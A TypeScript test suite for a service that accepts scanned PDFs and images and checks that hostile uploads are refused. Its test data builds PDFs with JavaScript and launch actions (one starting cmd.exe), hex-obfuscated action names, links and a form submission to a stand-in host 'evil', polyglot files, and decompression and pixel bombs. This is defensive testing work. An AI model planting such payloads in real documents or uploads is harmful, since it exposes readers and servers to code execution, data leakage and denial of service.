/** What is taken, what it becomes, and what is refused: files as attackers make them. */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import test from 'ava';
import { normaliseApart, normaliseWithin } from '../../../commands/uploads/normalise-apart.ts';
import { normaliseFile } from '../../../commands/uploads/normalise-file.ts';
import { Rejection } from '../../../errors.ts';
import { PdfDocument } from '../../../signing/pdf/pdf-document.ts';
import { readPages } from '../../../signing/pdf/read-pages.ts';
import { bombPng, jpeg, pdfOf, png, scanPdf, vastPng } from './files.ts';

const LIMITS = { pages: 5, pixels: 36_000_000, resolution: 200 };
const AT = Date.parse('2026-11-23T02:00:00Z');
const apart = async (file: Buffer) => await normaliseApart({ file, limits: LIMITS, at: AT });
const taken = (file: Buffer) => normaliseFile(file, LIMITS, AT);

function refusedAs(file: Buffer): string {
  try {
    normaliseFile(file, LIMITS, AT);
    return 'taken';
  } catch (error) {
    if (error instanceof Rejection) return error.code;
    throw error;
  }
}

test('a scan of paper is kept as it is, and known for what it is', (t) => {
  const file = scanPdf({ pages: 2 });
  const { content, ...facts } = taken(file);
  t.true(content.equals(file));
  t.deepEqual(facts, { type: 'application/pdf', pages: 2, dpi: 200, colour: true });
  t.is(taken(scanPdf({ dpi: 96 })).dpi, 96);
  t.false(taken(scanPdf({ grey: true })).colour);
});

test('what is no picture of paper, upright and whole, is told apart', (t) => {
  t.like(taken(scanPdf({ drawn: true })), { notCopyable: 'drawn' });
  t.is(taken(scanPdf({ drawn: true })).dpi, undefined);
  t.is(taken(scanPdf({ page: '/Rotate 90' })).notCopyable, 'turned');
  t.is(taken(scanPdf({ page: '/CropBox[0 0 100 100]' })).notCopyable, 'turned');
  t.is(taken(scanPdf({ page: '/UserUnit 2' })).notCopyable, 'turned');
  t.is(taken(scanPdf({ version: '1.3' })).notCopyable, 'version');
  const field = '<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]>>';
  t.is(taken(scanPdf({ catalog: '/AcroForm<</Fields[7 0 R]>>', more: [field] })).notCopyable, 'fields');
});

test('pictures become a page of A4, as large as fits, or as large as the paper was', (t) => {
  const upright = taken(png());
  t.like(upright, { type: 'image/png', pages: 1, dpi: 200, colour: true });
  t.is(upright.notCopyable, undefined);
  t.is(readPages(new PdfDocument(upright.content)).length, 1);
  t.is(taken(jpeg()).dpi, 200);
  t.false(taken(jpeg({ parts: 1 })).colour);
  t.is(taken(jpeg({ width: 1_240, height: 1_748, density: 300 })).dpi, 300, 'an A6 card at its own size');
  t.is(taken(jpeg({ width: 400, height: 600, density: 72 })).dpi, 51, 'and not believed where it says too little');
  t.like(taken(taken(png({ transparent: true })).content), { pages: 1, dpi: 200 }, 'what is made is taken again');
});

const ACTIVE: Readonly<Record<string, Buffer>> = {
  'JavaScript as it opens': scanPdf({ drawn: true, catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }),
  'JavaScript by name': scanPdf({
    drawn: true,
    catalog: '/Names<</JavaScript<</Names[(a) 7 0 R]>>>>',
    more: ['<</S/JavaScript/JS(app.alert(1))>>'],
  }),
  'JavaScript that nothing refers to': scanPdf({ drawn: true, more: ['<</S/JavaScript/JS(app.alert(1))>>'] }),
  'JavaScript under a name that is written in hex': scanPdf({ drawn: true, more: ['<</#53/#4aavaScript/#4a#53(app.alert(1))>>'] }),
  'a program to start': scanPdf({
    drawn: true,
    page: '/Annots[7 0 R]',
    more: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>'],
  }),
  'an action of the page': scanPdf({ drawn: true, page: '/AA<</O<</S/GoTo/D[6 0 R/Fit]>>>>' }),
  'an embedded file': scanPdf({ drawn: true, catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' }),
  'an attached file': scanPdf({ drawn: true, page: '/Annots[7 0 R]', more: ['<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>'] }),
  'a form in XFA': scanPdf({ drawn: true, catalog: '/AcroForm<</Fields[]/XFA(x)>>' }),
  'a page from another file': scanPdf({
    drawn: true,
    page: '/Annots[7 0 R]',
    more: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>>>'],
  }),
  'data from another file': scanPdf({ drawn: true, more: ['<</F(http://evil/x)/Length 0>>\nstream\n\nendstream'] }),
  'what is filled in sent away': scanPdf({ drawn: true, more: ['<</S/SubmitForm/F(http://evil/x)>>'] }),
  'a film': scanPdf({ drawn: true, page: '/Annots[7 0 R]', more: ['<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>'] }),
};
for (const [what, file] of Object.entries(ACTIVE)) test(`a PDF with ${what} is refused`, (t) => void t.is(refusedAs(file), 'uploadActive'));

const good = scanPdf();
const HOSTILE: readonly (readonly [what: string, file: Buffer, code: string])[] = [
  ['an archive under the name of a PDF', Buffer.from('PK\u0003\u0004 and more'), 'uploadType'],
  ['a page of the web', Buffer.from('<!doctype html><script>alert(1)</script>'), 'uploadType'],
  ['a PDF behind something else', Buffer.concat([Buffer.from('GIF89a'), good]), 'uploadType'],
  ['a PDF that is cut off', good.subarray(0, good.length - 200), 'uploadUnreadable'],
  ['a PDF with an archive behind it', Buffer.concat([good, Buffer.from('PK\u0003\u0004')]), 'uploadUnreadable'],
  [
    'a PDF with bytes between its objects',
    Buffer.from(good.toString('latin1').replace('2 0 obj', 'PK 2 0 obj'), 'latin1'),
    'uploadUnreadable',
  ],
  [
    'an encrypted PDF',
    Buffer.from(good.toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R/Encrypt 5 0 R'), 'latin1'),
    'uploadUnreadable',
  ],
  ['too many pages', scanPdf({ pages: 6, drawn: true }), 'uploadPages'],
  ['no page', pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']), 'uploadPages'],
  ['a picture in it of 9000 by 9000 pixels', pdfWithImage(9_000), 'uploadPixels'],
  ['contents that grow without bounds', contentBomb(), 'uploadUnreadable'],
  ['a PNG of 9000 by 9000 pixels', bombPng(), 'uploadPixels'],
  ['a JPEG of 9000 by 9000 pixels', jpeg({ width: 9_000, height: 9_000 }), 'uploadPixels'],
  ['a PNG that is cut off', png({ width: 50, height: 50 }).subarray(0, 60), 'uploadUnreadable'],
  ['a PNG with an archive behind it', Buffer.concat([png({ width: 50, height: 50 }), Buffer.from('PK\u0003\u0004')]), 'uploadUnreadable'],
  ['a PNG whose data is wrong', damaged(png({ width: 50, height: 50 })), 'uploadUnreadable'],
  ['a JPEG that is cut off', jpeg().subarray(0, -2), 'uploadUnreadable'],
  ['a JPEG with an archive behind it', Buffer.concat([jpeg(), Buffer.from('PK\u0003\u0004')]), 'uploadUnreadable'],
];
for (const [what, file, code] of HOSTILE) test(`${what} is refused as ${code}`, (t) => void t.is(refusedAs(file), code));

function pdfWithImage(side: number): Buffer {
  const picture = `<</Type/XObject/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceRGB/BitsPerComponent 8/Length 0>>\nstream\n\nendstream`;
  return scanPdf({ drawn: true, page: '/Resources<</XObject<</Im 7 0 R>>>>', more: [picture] });
}

function contentBomb(): Buffer {
  const bytes = deflateSync(Buffer.alloc(40_000_000, ' '));
  const contents = `<</Filter/FlateDecode/Length ${bytes.length}>>\nstream\n${bytes.toString('latin1')}\nendstream`;
  return scanPdf({ drawn: true, page: '/Contents 7 0 R', more: [contents] });
}

function damaged(file: Buffer): Buffer {
  const copy = Buffer.from(file);
  copy[copy.length - 30] = (copy[copy.length - 30] ?? 0) ^ 0xff;
  return copy;
}

test('thousands of files with bytes changed are taken or refused, and break nothing', (t) => {
  let seed = 7;
  const next = (below: number): number => (seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) % below;
  const sources = [scanPdf({ drawn: true }), png({ width: 20, height: 20 }), jpeg(), ...Object.values(ACTIVE)];
  for (let round = 0; round < 3_000; round += 1) {
    const file = Buffer.from(sources[round % sources.length] ?? Buffer.alloc(0));
    for (let change = 0; change <= next(4); change += 1) file[next(file.length)] = next(256);
    t.notThrows(() => refusedAs(next(3) === 0 ? file.subarray(0, next(file.length)) : file));
  }
});

test('files are read apart from the node, few at a time, with the same answers', async (t) => {
  const [first, second, third] = await Promise.all([apart(scanPdf()), apart(jpeg()), apart(scanPdf({ pages: 2 }))]);
  t.deepEqual([first?.pages, second?.pages, third?.pages], [1, 1, 2]);
  await t.throwsAsync(apart(Buffer.from('PK')), { code: 'uploadType' });
});

test('a file that takes too long is refused, whether or not a scanner has looked at it, and those who wait get their turn', async (t) => {
  const within = normaliseWithin({ ms: 1_500, heapMb: 512 });
  const patient = normaliseWithin({ ms: 60_000, heapMb: 512 });
  const input = (file: Buffer) => ({ file, limits: LIMITS, at: AT });
  const vast = vastPng();
  const refused = Array.from({ length: 3 }, async () => await t.throwsAsync(within(input(vast)), { code: 'uploadCostly' }));
  // the node itself goes on meanwhile
  t.is((await patient(input(jpeg()))).pages, 1);
  await Promise.all(refused);
  t.is((await patient(input(scanPdf({ text: 'sau' })))).pages, 1);
});

test('other readers agree that what is kept is a whole PDF', (t) => {
  const folder = fs.mkdtempSync(path.join(tmpdir(), 'scan-'));
  try {
    for (const [name, file] of [
      ['png', png()],
      ['pdf', scanPdf({ pages: 2 })],
    ] as const) {
      const place = path.join(folder, `${name}.pdf`);
      fs.writeFileSync(place, taken(file).content);
      t.regex(execFileSync('qpdf', ['--check', place], { encoding: 'utf8' }), /No syntax or stream encoding errors/);
    }
  } finally {
    fs.rmSync(folder, { recursive: true });
  }
});
